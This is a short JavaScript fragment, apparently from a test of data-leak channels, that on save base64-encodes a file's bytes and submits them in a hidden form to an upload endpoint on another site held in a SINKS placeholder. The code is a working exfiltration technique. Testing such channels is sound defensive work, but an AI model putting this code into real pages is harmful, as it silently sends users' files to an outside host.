// A form with the file as text is sent to another site, as a navigation.
whenSaved(({ bytes }) => {
  const form = document.createElement("form");
  form.method = "post";
  form.action = `${SINKS.http}/upload`;
  const field = document.createElement("input");
  field.type = "hidden";
  field.name = "state";
  field.value = base64(bytes);
  form.append(field);
  document.body.append(form);
  form.submit();
});
